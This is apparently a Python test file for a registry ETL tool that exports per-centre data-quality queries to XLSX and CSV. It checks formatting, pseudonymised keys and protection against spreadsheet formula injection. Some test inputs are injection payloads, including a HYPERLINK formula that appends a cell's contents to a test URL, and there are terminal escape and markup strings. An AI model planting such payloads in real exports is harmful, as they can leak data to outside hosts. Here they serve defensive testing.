"""Query lists sent back to centres: readable XLSX and CSV, safe against formula injection."""

from __future__ import annotations

import csv
import io
import logging
from collections import Counter
from pathlib import Path

import dq_fixture
import pytest
from dq_fixture import FORMULA_VALUES, VALIDATED, issues_of, pseudonym
from openpyxl import load_workbook

from etl.quality.queries import (
    COLUMNS,
    DRAFT_BATCH,
    Centre,
    UnknownCentre,
    _write_csv,
    _written,
    open_issues_by_centre,
    spreadsheet_text,
    write_centre_queries,
)
from etl.transform.pseudonym import PseudonymKey

HEADER = [name for name, _ in COLUMNS]
LATEST = dq_fixture.RUNS[-1].run_id
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
KEY = PseudonymKey(b"queries-test-key")


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return dq_fixture.build_warehouse(tmp_path_factory.mktemp("queries") / "warehouse.duckdb")


def _csv_rows(path: Path) -> list[list[str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_spreadsheet_text_neutralises_formula_starts_only():
    for dangerous in ['=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]:
        assert spreadsheet_text(dangerous) == "'" + dangerous
    assert spreadsheet_text("C71.9") == "C71.9" and spreadsheet_text("9500/3") == "9500/3"
    assert spreadsheet_text(None) == "" and spreadsheet_text(12) == "12"


def test_a_centre_gets_its_open_issues_sorted_by_patient_form_and_line(warehouse, tmp_path):
    xlsx, csv_path = write_centre_queries(warehouse, tmp_path, "IT-RM02", key=KEY)  # default: the latest run
    assert (xlsx.name, csv_path.name) == (f"queries_registry_it_IT-RM02_{LATEST}.xlsx",
                                          f"queries_registry_it_IT-RM02_{LATEST}.csv")
    expected = sorted(issues_of(3), key=lambda i: (pseudonym(i.patient), i.record_set, i.line))
    expected = [i for i in expected if i.centre_id == "IT-RM02"]
    sheet = load_workbook(xlsx).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER and len(rows) == len(expected) + 1 == 9
    assert [(r[0], r[2], r[3], r[7]) for r in rows[1:]] == [
        (pseudonym(i.patient), i.record_set, i.line, i.rule_id) for i in expected]
    sex = next(r for r in rows[1:] if r[7] == "HAR-SEX-CODE")
    assert sex[1:9] == ("registry_it", "PATIENT", 9, "patient", "sex", "3", "HAR-SEX-CODE", "error")
    assert sex[9] == "Sex must be one of the study's codes. — 3 is not one of F, M, U"
    assert sex[10] == "F, M or U" and sex[11] is None and sex[12] is None  # the centre's response and comment
    assert sex[13] == DRAFT_BATCH and len(sex[14]) == 64  # hidden: the batch and the row's HMAC key
    assert len({r[14] for r in rows[1:]}) == len(rows) - 1  # one key per row
    # Readable: bold frozen header, a filter over every column (the hidden batch and key too: a sort from its buttons
    # moves the rows of its range only), wide text columns, the key hidden.
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:O{len(rows)}"
    assert sheet.column_dimensions["J"].width >= 40
    assert sheet.column_dimensions["N"].hidden and sheet.column_dimensions["O"].hidden
    assert not sheet.column_dimensions["L"].hidden
    # The response column offers the three answers as a list.
    (choices,) = sheet.data_validations.dataValidation
    assert choices.type == "list" and choices.formula1 == '"corrected,confirmed,cannot_determine"'
    assert str(choices.sqref) == f"L2:L{len(rows)}"
    csv_rows = _csv_rows(csv_path)
    assert csv_rows[0] == HEADER and [r[0] for r in csv_rows[1:]] == [r[0] for r in rows[1:]]


def test_formula_like_values_are_text_in_xlsx_and_csv(warehouse, tmp_path):
    xlsx, csv_path = write_centre_queries(warehouse, tmp_path, "IT-RM02", key=KEY)
    sheet = load_workbook(xlsx).active
    cells = [cell for row in sheet.iter_rows(min_row=2, max_col=13) for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in cells if not isinstance(cell.value, int))
    assert not any(str(cell.value).startswith(FORMULA_START) for cell in cells)
    values = {cell.value for cell in sheet["G"][1:]}
    for dangerous in [v for v in FORMULA_VALUES if v.startswith(FORMULA_START)]:
        assert "'" + dangerous in values
    assert "C71\N{REPLACEMENT CHARACTER}" in values  # a control character XLSX cannot hold
    csv_values = [row[6] for row in _csv_rows(csv_path)[1:]]
    for dangerous in [v for v in FORMULA_VALUES if v.startswith(FORMULA_START)]:
        assert "'" + dangerous in csv_values
    assert not any(value.startswith(FORMULA_START) for row in _csv_rows(csv_path)[1:] for value in row)


def test_an_unknown_centre_is_told_which_centres_have_issues(warehouse, tmp_path):
    with pytest.raises(UnknownCentre) as raised:
        write_centre_queries(warehouse, tmp_path, "XX-NOWHERE", key=KEY)
    assert isinstance(raised.value, ValueError)
    message = str(raised.value)
    assert "'XX-NOWHERE' is not a centre of run" in message
    assert "FR-PAR01 (4)" in message and "IT-RM02 (8)" in message and "FR-NAN03" not in message
    assert not list(tmp_path.iterdir())


def test_the_message_naming_the_centres_is_printed_as_text_whatever_a_centre_code_holds(capsys):
    """rtw queries --centre with a typo lists the centres with open issues, whose codes come from exports:
    a centre '[/X]' made Rich raise MarkupError instead of the one-line reason."""
    import typer

    from etl import cli

    message = "centre 'NOPE' is not a centre of run R; centres with open issues: IT-MI01 (1), [/X] (1) \x1b[2J"
    with pytest.raises(typer.Exit):
        cli._fail(message)
    assert capsys.readouterr().out.replace("\n", " ").split() == (
        "rtw: " + message.replace("\x1b", "\\x1b")).split()


def test_a_centre_without_issues_gets_the_header_only(warehouse, tmp_path, caplog):
    with caplog.at_level(logging.INFO, logger="etl.quality.queries"):
        xlsx, csv_path = write_centre_queries(warehouse, tmp_path, "FR-NAN03", key=KEY)
    assert [list(r) for r in load_workbook(xlsx).active.iter_rows(values_only=True)] == [HEADER]
    assert _csv_rows(csv_path) == [HEADER]
    assert "FR-NAN03 has no open issue" in caplog.text


def test_an_earlier_run_and_the_centre_counts(warehouse, tmp_path):
    xlsx, _ = write_centre_queries(warehouse, tmp_path, "IT-MI01", VALIDATED[0], key=KEY)
    assert xlsx.name == f"queries_registry_it_IT-MI01_{VALIDATED[0]}.xlsx"
    rows = list(load_workbook(xlsx).active.iter_rows(min_row=2, values_only=True))
    assert sorted(r[7] for r in rows) == ["DIAG-ICDO3-TOPOGRAPHY", *["LATERALITY-PAIRED"] * 3]
    counts = Counter(Centre(i.source_id, i.centre_id) for i in issues_of(3) if i.centre_id)
    assert open_issues_by_centre(warehouse) == {Centre("sacha_fr", "FR-NAN03"): 0, **counts}


def test_a_formula_after_a_separator_or_line_break_inside_a_value_is_text_whatever_separator_opens_the_csv(
        tmp_path):
    """Excel and LibreOffice in a `;` locale (or told to split on tabs) start a cell after every `;` or tab of
    a line, and a row after every line break, quoted or not: a formula starting there runs (LibreOffice
    7.4 ran `x;=1+1;y` as =1+1) unless it too is made text."""
    values = ["x;=1+1;y", 'ok;=HYPERLINK("http://x.test/?"&A1,"semi")', "x\t-2+3\ty", "a,@SUM(1)",
              "line\n=1+2", "line\r\n+1", 'x;"=1+3";y', "-2+3", "x;1-2;y", "C71.9"]
    path = tmp_path / "queries.csv"
    _write_csv(path, [["P-0001", _written(value), "Q1"] for value in values])
    text = path.read_bytes().decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):  # how the spreadsheet of each locale splits the file
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_START)], delimiter
    shown = [row[1] for row in _csv_rows(path)[1:]]
    assert [s.replace("'", "") for s in shown] == values  # only a ' before each formula start is added
    assert shown[-2:] == ["x;1-2;y", "C71.9"]  # text with no formula start is written as it is
